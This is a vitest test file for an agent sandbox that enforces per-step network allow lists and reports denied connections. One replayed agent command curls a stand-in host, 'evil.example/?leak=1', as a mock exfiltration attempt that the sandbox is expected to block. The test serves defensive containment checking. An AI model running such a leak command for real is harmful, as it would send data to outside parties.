import { writeFileSync } from 'node:fs';
import http from 'node:http';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { listen } from '../sandbox/egress-fixture.ts';
import { type Bench, type CliEnd, commitAll, createBench, runCli } from '../scenario.ts';
import { USERS } from '../users.ts';

const answer = (name: string, input: object) => `${JSON.stringify({ tool_calls: [{ name, input }] })}\n`;
const shell = (command: string) => answer('shell', { command });
const finish = answer('finish', { status: 'done', summary: 'done' });

let bench: Bench;
let owner: number | undefined;
let server: http.Server;
let port: number;
let requests: string[] = [];
beforeAll(async () => {
  server = http.createServer((request, response) => {
    requests.push(request.url ?? '');
    response.end('from the host\n');
  });
  port = await listen(server);
});
afterAll(() => void server.close());
afterEach(() => {
  requests = [];
  bench.remove();
});

function prepare(policy: object): void {
  bench = createBench({ 'a.txt': 'a\n', 'belay.yml': JSON.stringify({ version: 1, ...policy }) }, owner);
  commitAll(bench);
}

function run(policy: object, answers: string): Promise<CliEnd> {
  prepare(policy);
  const cassette = join(bench.io, 'model.jsonl');
  writeFileSync(cassette, answers);
  return runCli(['run', 'go', '--replay', cassette], bench);
}

/** What was told of the network, in order. */
function told({ events }: CliEnd): string[] {
  return events.flatMap((event) => {
    if (event.type === 'network.allowed')
      return [`${event.phase} ${event.turn} allowed ${event.host}:${event.port} by ${event.rule}`];
    if (event.type === 'item.completed' && event.item.type === 'denial')
      return [`${event.phase} ${event.turn} denied ${event.item.action} by ${event.item.rule}`];
    return [];
  });
}

describe.each(USERS)('the network of a run, with belay run by $who,', ({ uid, works }) => {
  beforeEach(() => {
    owner = uid;
  });

  it.skipIf(!works)('is what each step is allowed: setup, the agent and a check have lists of their own', async () => {
    const here = `localhost:${port}`;
    const allow = { allow: [here, `127.0.0.1:${port}`] };
    const get = (path: string) => `curl -sSf -o /dev/null http://${here}/${path}`;
    const end = await run(
      {
        setup: [{ run: get('setup'), network: allow }],
        verify: {
          checks: [
            { name: 'reaches', run: get('check'), network: allow, when: 'final' },
            { name: 'does not', run: `! ${get('other')}`, when: 'final' },
          ],
        },
      },
      shell(`${get('agent')}; curl -sS https://evil.example/?leak=1; exit 0`) + finish,
    );
    expect({ code: end.code, reason: end.result?.reason }).toEqual({ code: 0, reason: expect.any(String) });
    expect(requests).toEqual(['/setup', '/check', '/check']);
    // Without a list there is no proxy that could deny.
    expect(told(end)).toEqual([
      `setup null allowed localhost:${port} by ${here}`,
      `baseline null allowed localhost:${port} by ${here}`,
      `clean_room null allowed localhost:${port} by ${here}`,
    ]);
  });

  it.skipIf(!works)(
    'tells the model, the stream and the result what an agent was denied, without the path',
    async () => {
      const end = await run(
        { sandbox: { network: { allow: ['*.one.example'] } }, verify: { checks: [] } },
        shell('curl -sS https://one.example/secret-path; exit 0') + finish,
      );
      const denial = {
        action: 'connect to one.example:443',
        rule: 'network.allow',
        reason: 'no entry of the list names it',
      };
      expect(end.result).toMatchObject({
        exit_code: 0,
        denials: [denial],
        sandbox: { network: 'allow: *.one.example' },
      });
      expect(told(end)).toEqual(['agent 1 denied connect to one.example:443 by network.allow']);
      const thread = await runCli(['replay', end.result?.thread_id ?? ''], bench);
      expect(thread.code).toBe(0);
    },
  );

  it.skipIf(!works)('is refused where the way out cannot be used, before anything runs', async () => {
    prepare({
      sandbox: { network: { allow: ['one.example'] } },
      setup: [{ run: 'touch ran' }],
      verify: { checks: [] },
    });
    const cassette = join(bench.io, 'model.jsonl');
    writeFileSync(cassette, finish);
    const end = await runCli(['run', 'go', '--replay', cassette], bench, {
      env: { HTTPS_PROXY: 'socks5://proxy.example' },
    });
    expect({ code: end.code, reason: end.result?.reason }).toEqual({
      code: 21,
      reason: expect.stringContaining('socks5'),
    });
    expect(() => bench.read('ran')).toThrow();
  });

  it.skipIf(!works)('lets setup install again with its network when a patch is verified on its base', async () => {
    const allow = { allow: [`localhost:${port}`, `127.0.0.1:${port}`] };
    prepare({
      setup: [{ run: `mkdir -p deps && curl -sSf http://localhost:${port}/dep > deps/dep.txt`, network: allow }],
      verify: { checks: [{ name: 'uses it', run: 'grep -q host deps/dep.txt && grep -q b a.txt' }] },
    });
    bench.write('.gitignore', 'deps\n');
    const base = commitAll(bench);
    bench.write('a.txt', 'b\n');
    const patch = join(bench.io, 'change.patch');
    writeFileSync(patch, bench.git('diff'));
    bench.git('checkout', '-q', '.');
    const end = await runCli(['verify', '--patch', patch, '--base', base], bench);
    expect({ code: end.code, evidence: end.result?.evidence }).toEqual({ code: 0, evidence: 'fixed' });
    expect(requests).toEqual(['/dep']);
  });
});
